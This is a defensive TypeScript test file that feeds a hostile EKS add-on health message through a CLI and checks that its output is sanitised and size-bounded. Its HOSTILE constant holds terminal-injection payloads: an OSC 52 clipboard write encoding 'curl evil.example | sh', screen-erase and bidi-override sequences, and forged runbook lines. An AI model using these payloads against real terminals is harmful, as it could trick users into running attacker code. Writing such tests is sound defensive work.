/**
 * Attack: a hostile add-on health message. DescribeAddon's health issues quote the cluster: an
 * `AdmissionRequestDenied` issue carries the denial message of an admission webhook, written by whoever runs that
 * webhook in the cluster (a workload team, a third-party controller), and other issues name Kubernetes objects.
 * So anyone who can run an admission webhook, or make the agent's objects conflict, writes text that
 * `pod-identity.agent-unhealthy` reports: terminal escapes (OSC 52 clipboard, screen erase), forged report lines
 * ("Runbook: https://evil.example"), bidi overrides, and megabytes of it, in hundreds of issues. Association fields
 * (namespace, service account) are constrained by Kubernetes, but an answer that breaks the constraint is the same
 * kind of text.
 *
 * Entry: the CLI (runCli, the real createAwsRunCheck, adapters and evaluation) with aws-sdk-client-mock answering
 * STS, EKS and IAM. Bound: 0 control, bidi or format characters in what the CLI prints (wide, narrow, coloured
 * tables, and `--json`), at most 10 issues of at most 512 characters each in the finding, its message under 4 KB
 * and the whole finding under 32 KB, the hostile words never in the remediation, and a malformed namespace counted
 * and skipped, never shown.
 */
import {
  DescribeAddonCommand,
  DescribePodIdentityAssociationCommand,
  EKSClient,
  ListClustersCommand,
  ListPodIdentityAssociationsCommand,
} from '@aws-sdk/client-eks';
import { GetRoleCommand, IAMClient } from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { mockClient } from 'aws-sdk-client-mock';
import type { JsonReport } from '../../lambdas/cli/render-json';
import { createAwsRunCheck } from '../../lambdas/cli/run-check';
import { harness } from '../cli/support';

const ACCOUNT = '111122223333';
const REGION = 'us-west-2';
const sts = mockClient(STSClient);
const eks = mockClient(EKSClient);
const iam = mockClient(IAMClient);

/** Listed by code point, not taken from the sanitizer under test (as in terminal-escapes.test.ts). */
const FORBIDDEN =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|\udb40[\udc00-\udc7f]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
// eslint-disable-next-line no-control-regex
const OWN_SGR = /\u001b\[[0-9;]*m/g;
/** The attacker's words at a column where the report's own lines start. */
const FORGED_AT_REPORT_COLUMN = /^(| {3}| {4})(RESOLVED - no action needed|Runbook: https:\/\/evil)/m;

const HOSTILE = [
  'admission webhook "policy.example.com" denied the request: ',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u0007', // OSC 52: write the clipboard
  '\u001b[2J\u001b[1A\u001b[2K', // erase the screen, overwrite the line above
  '\u009b2J', // C1 CSI
  '\u202e', // right-to-left override
  '\r\nRESOLVED - no action needed',
  '\nRunbook: https://evil.example/fix',
  'A'.repeat(200_000), // far more than any message
].join('');

function answer(namespace = 'payments'): void {
  for (const mock of [sts, eks, iam]) mock.reset();
  sts.on(GetCallerIdentityCommand).resolves({ Account: ACCOUNT, Arn: `arn:aws:iam::${ACCOUNT}:user/dev` });
  eks.on(ListClustersCommand).resolves({ clusters: ['prod'] });
  eks.on(ListPodIdentityAssociationsCommand).resolves({
    associations: [
      {
        clusterName: 'prod',
        namespace,
        serviceAccount: 'ledger',
        associationId: 'a-0123456789abcdefg',
        associationArn: `arn:aws:eks:${REGION}:${ACCOUNT}:podidentityassociation/prod/a-0123456789abcdefg`,
      },
    ],
  });
  eks.on(DescribePodIdentityAssociationCommand).resolves({
    association: {
      clusterName: 'prod',
      namespace,
      serviceAccount: 'ledger',
      associationId: 'a-0123456789abcdefg',
      roleArn: `arn:aws:iam::${ACCOUNT}:role/ledger`,
      disableSessionTags: false,
    },
  });
  eks.on(DescribeAddonCommand).resolves({
    addon: {
      addonName: 'eks-pod-identity-agent',
      clusterName: 'prod',
      status: 'DEGRADED',
      addonVersion: `v1.3.4${HOSTILE}`,
      health: {
        issues: Array.from({ length: 400 }, () => ({
          code: 'AdmissionRequestDenied' as const,
          message: HOSTILE,
          resourceIds: Array.from({ length: 100 }, () => HOSTILE),
        })),
      },
    },
  });
  iam.on(GetRoleCommand).resolves({
    Role: {
      RoleName: 'ledger',
      Arn: `arn:aws:iam::${ACCOUNT}:role/ledger`,
      Path: '/',
      RoleId: 'AROAEXAMPLE',
      CreateDate: new Date(),
      AssumeRolePolicyDocument: encodeURIComponent(
        JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { Service: 'pods.eks.amazonaws.com' },
              Action: ['sts:AssumeRole', 'sts:TagSession'],
            },
          ],
        }),
      ),
    },
  });
}

async function cli(env: Record<string, string>, ...flags: string[]) {
  const run = harness({ env, runCheck: createAwsRunCheck({ maxAttempts: 1 }) });
  await run.run('check', '--checks', 'pod-identity', '--region', REGION, ...flags);
  return run;
}

function expectClean(text: string, where: string): void {
  const match = FORBIDDEN.exec(text);
  if (match) {
    const at = match.index;
    throw new Error(
      `${where}: U+${match[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${at}: ` +
        JSON.stringify(text.slice(Math.max(0, at - 40), at + 40)),
    );
  }
}

describe('a hostile add-on health message reaches the report bounded and harmless', () => {
  test('in the table: wide, narrow and coloured, no control or bidi character, no forged line', async () => {
    answer();
    for (const [label, env] of [
      ['wide table', { COLUMNS: '160' }],
      ['narrow (stacked) table', { COLUMNS: '50' }],
      ['coloured table', { COLUMNS: '120', FORCE_COLOR: '1' }],
    ] as const) {
      const run = await cli(env);
      const out = run.stdout.text.replace(OWN_SGR, '');
      expect(out).toContain('eks-pod-identity-agent');
      expectClean(out, `${label}, stdout`);
      expectClean(run.stderr.text.replace(OWN_SGR, ''), `${label}, stderr`);
      expect(out).not.toMatch(FORGED_AT_REPORT_COLUMN);
      // Bounded: a 200,000-character message, 400 times, is not 80 MB of report.
      expect(out.length).toBeLessThan(200_000);
    }
  });

  test('in --json: escaped, at most 10 issues of at most 512 characters, the finding under 32 KB', async () => {
    answer();
    const json = await cli({}, '--json');
    expectClean(json.stdout.text, '--json');
    const report = JSON.parse(json.stdout.text) as JsonReport;
    const unhealthy = report.findings.find((finding) => finding.checkId === 'pod-identity.agent-unhealthy')!;
    expect(unhealthy.status).toBe('FAIL');
    const issues = unhealthy.evidence.healthIssues as readonly string[];
    expect(issues).toHaveLength(10);
    expect(unhealthy.evidence.healthIssueCount).toBe(400);
    for (const issue of issues) {
      // `<code>: <message> (<up to 3 resource ids of 128>)`
      expect(issue.length).toBeLessThanOrEqual('AdmissionRequestDenied: '.length + 512 + 3 * 130 + 2);
      expect(issue).toContain('\\u001b]52;c;');
      expect(issue).toContain('\\nRunbook: https://evil.example');
    }
    // Far inside what a run report takes from a member (a message of 16,384 characters, 200 KiB a finding).
    expect(unhealthy.message.length).toBeLessThan(4_096);
    expect(Buffer.byteLength(JSON.stringify(unhealthy))).toBeLessThan(32 * 1024);
    // The hostile text is evidence, never advice: the remediation is the catalogue's alone.
    for (const finding of report.findings) {
      expect(finding.remediation.text).not.toContain('evil.example');
      expect(finding.remediation.text).not.toContain('policy.example.com');
    }
  });

  test('a namespace that is no Kubernetes name is counted and skipped, never shown', async () => {
    answer(`payments${HOSTILE.slice(0, 400)}`);
    const json = await cli({}, '--json');
    expectClean(json.stdout.text, '--json');
    const report = JSON.parse(json.stdout.text) as JsonReport;
    expect(report.findings.some((finding) => finding.checkId === 'pod-identity.role-invalid')).toBe(false);
    expect(json.stdout.text).not.toContain('evil.example');
    expect(report.summary.skippedRecords).toBeGreaterThan(0);
  });
});
